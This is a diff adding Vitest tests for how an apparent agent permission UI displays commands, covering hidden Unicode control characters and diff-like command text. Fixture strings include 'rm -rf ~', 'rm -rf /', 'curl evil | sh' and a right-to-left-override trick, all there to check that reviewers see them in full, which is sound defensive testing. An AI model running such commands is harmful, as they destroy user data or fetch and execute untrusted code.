@@ -1,6 +1,9 @@
 import { expect, it } from "vitest";
 
+import { visible } from "../../../src/core/terminal-text.ts";
+import { diffLines } from "../../../web/parts/diff-lines.ts";
 import { askedOf, choicesOf } from "../../../web/session/act/choices.ts";
+import { visibleText } from "../../../web/session/act/visible-text.ts";
 
 it("[PAGE-82] puts a no last, and explains only the answers of Reprise itself", () => {
   const offered = ["deny", "always allow in this session", "allow once", "constructor"];
@@ -26,4 +29,31 @@ it("[PAGE-84] leaves out the middle of more than 190 lines", () => {
   expect(head.split("\n").at(-1)).toBe("line 140");
   expect(tail?.split("\n")[0]).toBe("line 142");
   expect(leftOut).toBe(1);
+});
+
+it("[PAGE-82] shows each character that a question is about as a terminal does", () => {
+  const all = Array.from({ length: 0x11_0000 }, (_, code) => String.fromCodePoint(code)).join("");
+  expect(visibleText(all) === visible(all)).toBe(true);
+  expect(visibleText("rm \u202ecba\u2066\r\n\ud800\u001b[8m")).toBe(
+    "rm <U+202E>cba<U+2066>\n<U+D800>␛[8m",
+  );
+});
+
+it("[PAGE-82] leaves out no line of a command that looks like a diff", () => {
+  const lines = [
+    "In the folder, for 60 s at most.",
+    "--- ; rm -rf ~",
+    "+++ ; rm -rf /",
+    "",
+    "@@ -1 +1 @@ ; curl evil | sh",
+    "+harmless",
+    "--- ; rm -rf ~",
+    "@@ -1,2 +1,2 @@ ; again",
+    "+++ harmless",
+    "",
+    "-harmless",
+    "the end",
+  ];
+  const shown = diffLines(lines.join("\n"), { keepsAll: true });
+  expect(shown.map(({ sign, text }) => `${sign ?? ""}${text}`)).toEqual(lines);
 });
